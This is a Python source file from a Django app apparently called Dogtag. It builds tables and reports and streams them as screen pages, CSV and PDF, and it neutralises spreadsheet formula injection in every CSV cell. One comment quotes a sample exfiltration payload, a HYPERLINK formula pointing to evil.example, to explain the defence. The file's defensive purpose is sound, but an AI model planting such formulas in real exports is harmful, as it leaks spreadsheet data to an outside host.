"""A table is a title, columns and rows of plain values (str, int, Decimal, date); a report is a
title, the period it covers and its tables. One definition renders on screen, as CSV and as PDF
(`respond`). Money is Decimal throughout; the templates show it as $10.00.

A list page is a table over a queryset (`table(title, columns, objects)`): its CSV and PDF read
every row; on screen `Table.page(request)` shows one page of the same rows under the same
headings (templates/dogtag/_table.html), each cell as the column says (`link`, `cell` template).

Every CSV that leaves Dogtag is written here (`csv_lines`), so every cell a spreadsheet would
read as a formula is neutralised in one place (`neutralise`), and a long list streams row by
row instead of being built in memory."""

import csv
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass, field
from datetime import date, datetime
from decimal import Decimal
from functools import wraps
from operator import attrgetter
from typing import Any

from django.core.paginator import Paginator
from django.http import StreamingHttpResponse
from django.shortcuts import render
from django.utils import timezone
from django.utils.text import slugify

from dogtag.lib import dates
from dogtag.lib.pdf import pdf_response

# A cell starting with one of these is a formula to Excel, LibreOffice or Google Sheets
# (OWASP, "CSV Injection"): =HYPERLINK("http://evil.example/?x="&A1,"click") would leak a row.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
PER_PAGE = 100  # rows of a list on one screen; a display choice, the export has every row


@dataclass
class Table:
    title: str
    columns: list[str]
    rows: Iterable = field(default_factory=list)  # lists of values; may be a generator over a queryset
    totals: list | None = None
    links: list[str | None] | None = None  # a URL per row, for its first cell
    # A table over objects (`table()`): the column definitions and the objects, so the screen can
    # show a page of them; `rows` reads them all.
    definition: list["Column"] | None = None
    objects: Any = None
    empty: str = "None."
    row_class: Callable[[Any], str] | None = None  # on screen, e.g. "void" for a voided row
    key: str = ""  # the page's query parameter is `<key>page` when a report shows several tables

    @property
    def linked_rows(self):
        rows = list(self.rows)
        return list(zip(rows, self.links or [None] * len(rows), strict=True))

    def page(self, request, per_page: int = PER_PAGE) -> "Shown":
        """One page of the table's objects (`?page=`), counted and sliced by the database."""
        if self.definition is None:
            raise TypeError(f"{self.title!r} is a table of values, not of objects: it has no pages")
        param = f"{self.key}page"
        page = Paginator(self.objects, per_page).get_page(request.GET.get(param))
        return Shown(self, page, param, request.GET)


@dataclass
class Cell:
    value: Any
    link: str | None = None
    template: str | None = None

    @property
    def text(self):
        return shown(self.value)

    @property
    def numeric(self):
        return isinstance(self.value, int | Decimal) and not isinstance(self.value, bool)


@dataclass
class Shown:
    """A page of a table on screen: its rows as cells, and the links to the next and previous
    pages that keep the rest of the query (a filter, a search)."""

    table: Table
    page: Any
    param: str
    query: Any

    @property
    def rows(self):
        cls = self.table.row_class
        for obj in self.page.object_list:
            cells = [Cell(c.of(obj), c.link(obj) if c.link else None, c.cell) for c in self.table.definition]
            yield obj, cls(obj) if cls else "", cells

    def _url(self, number):
        q = self.query.copy()
        q[self.param] = number
        return "?" + q.urlencode()

    @property
    def previous_url(self):
        return self._url(self.page.previous_page_number()) if self.page.has_previous() else None

    @property
    def next_url(self):
        return self._url(self.page.next_page_number()) if self.page.has_next() else None


@dataclass
class Uncounted:
    """A page of a table read by keyset (the rows after the last one shown), for `Shown`: its
    objects and no paginator, so the page is neither counted nor numbered."""

    object_list: list
    paginator = None


@dataclass
class Report:
    title: str
    subtitle: str
    tables: list[Table]
    notes: list[str] = field(default_factory=list)
    citations: list = field(default_factory=list)
    municipality: Any = None  # the municipality the report is for, None for a county

    def __post_init__(self):
        if len(self.tables) > 1:  # each table of a page turns its own pages
            for t in self.tables:
                t.key = t.key or f"{slugify(t.title)}-"

    def pages(self, request, per_page: int = PER_PAGE) -> list[Shown]:
        return [t.page(request, per_page) for t in self.tables]


@dataclass(frozen=True)
class Column:
    """A column of a list: its heading and how a row's value is read (an attribute path such as
    "owner.name", a key of a dict row, or a function of the row). On screen the cell may link
    (`link(row)` is a URL) or be drawn by a template (`cell`, given `row` and `value`: a "why?",
    a button); the CSV and the PDF have the value."""

    title: str
    value: str | Callable[[Any], Any]
    link: Callable[[Any], str | None] | None = None
    cell: str | None = None

    def of(self, obj):
        if callable(self.value):
            return self.value(obj)
        if isinstance(obj, dict):  # a row of a values() query
            return obj[self.value]
        try:
            return attrgetter(self.value)(obj)
        except AttributeError:  # a missing related row ("owner.name" without an owner)
            return None


def table(title: str, columns: list[Column], objects, **options) -> Table:
    """A table over every object of a queryset (or a list), read in chunks as the rows are
    written: the CSV of a 100,000-row list is complete and never held in memory. On screen,
    `Table.page` shows a page of the same objects. `options`: the Table's `empty`, `row_class`, `key`."""
    return Table(
        title, [c.title for c in columns], _Rows(columns, objects), definition=columns, objects=objects, **options
    )


class _Rows:
    """The rows of a table over objects, read afresh each time (the PDF lists them twice: to
    count, then to draw)."""

    def __init__(self, columns, objects):
        self.columns, self.objects = columns, objects

    def __iter__(self):
        objects = self.objects.iterator(chunk_size=2000) if hasattr(self.objects, "iterator") else self.objects
        return ([c.of(obj) for c in self.columns] for obj in objects)


def neutralise(text: str) -> str:
    """Text a spreadsheet would run as a formula gets a leading apostrophe, which shows the text
    as typed and runs nothing."""
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def shown(value):
    """A cell on screen and on paper: $10.00, March 1, 2027, yes/no."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "yes" if value else "no"
    if isinstance(value, Decimal):
        return f"${value:,.2f}"
    if isinstance(value, date):  # and datetime: March 1, 2027, 2:05 PM
        return dates.shown(value)
    return value


def cell(value) -> str:
    """A value as CSV text: ISO dates, money to the cent, booleans as yes/no; text neutralised.
    Numbers are not text: a negative amount stays a number."""
    if value is None or isinstance(value, bool):
        return shown(value)
    if isinstance(value, Decimal):
        return f"{value:.2f}"
    if isinstance(value, int | float):
        return str(value)
    if isinstance(value, datetime):  # a time in the municipality's zone, with its offset
        local = timezone.localtime(value) if timezone.is_aware(value) else value
        return local.isoformat(sep=" ", timespec="minutes")
    if isinstance(value, date):
        return value.isoformat()
    return neutralise(str(value))


class _Line:
    """A file-like object that hands back what csv.writer writes (one line at a time)."""

    def write(self, line):
        return line


def csv_lines(report: Report) -> Iterator[str]:
    """The report as CSV, one line at a time: the table's title before each table when there are
    several, the columns, the rows, the totals."""
    writer = csv.writer(_Line())
    for i, table in enumerate(report.tables):
        if len(report.tables) > 1:
            if i:
                yield writer.writerow([])
            yield writer.writerow([cell(table.title)])
        yield writer.writerow([cell(c) for c in table.columns])
        for row in table.rows:
            yield writer.writerow([cell(v) for v in row])
        if table.totals:
            yield writer.writerow([cell(v) for v in table.totals])


def csv_response(report: Report, filename: str) -> StreamingHttpResponse:
    response = StreamingHttpResponse(csv_lines(report), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}.csv"'
    return response


def exports(build):
    """A list page from one definition: `build(request, *args, **kwargs)` returns the page's
    report (its scoping, its tables over querysets). `?format=csv` streams every row of it,
    `?format=pdf` prints every row; otherwise the view is called with `report=` and shows a page
    of each table (`report.pages(request)`)."""

    def decorator(view):
        @wraps(view)
        def wrapper(request, *args, **kwargs):
            request.csv_export = True  # base.html offers the "Export CSV" link
            report = build(request, *args, **kwargs)
            fmt = request.GET.get("format")
            if fmt not in ("csv", "pdf"):
                return view(request, *args, report=report, **kwargs)
            name = request.resolver_match.url_name if request.resolver_match else "export"
            if fmt == "csv":
                return csv_response(report, name)
            context = {"report": report, "municipality": report.municipality, "name": name}
            return pdf_response("reports/report_pdf.html", context, f"{name}.pdf")

        return wrapper

    return decorator


def respond(request, report: Report, municipality, name: str, template="reports/report.html", extra=None):
    """The report on screen, as CSV (`?format=csv`) or as PDF (`?format=pdf`)."""
    fmt = request.GET.get("format")
    filename = f"{name}-{municipality.slug if municipality else 'county'}-{dates.today().isoformat()}"
    if fmt == "csv":
        return csv_response(report, filename)
    context = {"report": report, "municipality": municipality, "name": name, "query": request.GET, **(extra or {})}
    if fmt == "pdf":
        return pdf_response("reports/report_pdf.html", context, f"{filename}.pdf")
    # On screen a table over objects shows a page of them; a table of totals shows whole.
    context["screens"] = [(t, t.page(request) if t.definition is not None else None) for t in report.tables]
    return render(request, template, context)
